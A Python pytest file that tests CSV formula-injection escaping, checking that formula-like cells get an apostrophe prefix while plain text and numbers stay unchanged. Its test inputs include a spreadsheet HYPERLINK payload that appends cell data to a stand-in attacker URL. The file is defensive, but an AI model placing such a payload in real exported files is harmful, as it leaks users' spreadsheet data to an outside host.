"""No cell of a file is a formula, whatever a visitor wrote."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from desk.csv_files import csv_file


def read(cells: list[Any]) -> list[str]:
    body = csv_file("x", ["head"] * len(cells), [cells]).body
    assert body is not None
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))[1]


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example?"&A1)',
        "+1 202-555-0187",
        "-2+3",
        "@SUM(1)",
        "  =1+1",
        "\t=1",
        "\r=1",
        "\n=1",
        "＝1+1",
        "＠x",
    ],
)
def test_a_formula_is_a_text(cell: str) -> None:
    assert read([cell])[0].startswith("'")


@pytest.mark.parametrize(
    "cell", ["it helped", "a = b", "2-3 weeks", 'with "quotes", and\nlines', ""]
)
def test_a_text_is_as_it_was(cell: str) -> None:
    assert read([cell]) == [cell]


def test_a_number_is_a_number() -> None:
    assert read([-3, 0.5]) == ["-3", "0.5"]
